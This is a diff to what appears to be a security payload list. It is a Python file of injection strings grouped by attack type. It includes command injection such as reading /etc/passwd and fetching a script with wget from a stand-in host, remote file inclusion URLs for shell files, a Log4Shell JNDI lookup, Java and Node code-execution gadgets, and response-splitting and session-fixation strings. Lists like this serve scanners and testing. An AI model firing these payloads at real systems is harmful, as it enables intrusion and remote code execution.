@@ -34,7 +34,7 @@ FILE_INCLUSION = [
 REMOTE_INCLUSION = ["http://203.0.113.9/shell.txt", "php://filter/resource=x", "http://evil.example/shell.php?"]
 COMMANDS = [
     "; cat /etc/passwd",
-    "| id",
+    "|| ls -la /root",
     "$(whoami)",
     "`uname -a`",
     "; wget http://203.0.113.9/x.sh",
@@ -56,9 +56,9 @@ JAVA = [
     "${${lower:j}ndi:rmi://203.0.113.9/a}",
     "java.lang.Runtime.getRuntime().exec('id')",
     "%{(#a=@java.lang.Runtime@getRuntime())}",
-    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+    "java.lang.ProcessBuilder('id').start()",
 ]
-NODE = ["_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "require('child_process').execSync('id')"]
+NODE = ["_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"]
 RESPONSE_SPLITTING = ["x\r\nSet-Cookie: a=b", "x\r\nContent-Type: text/html\r\n\r\n<html>"]
 SESSION_FIXATION = [".cookie;expires=Thu;domain=example.com", "document.cookie='PHPSESSID=1';"]
 
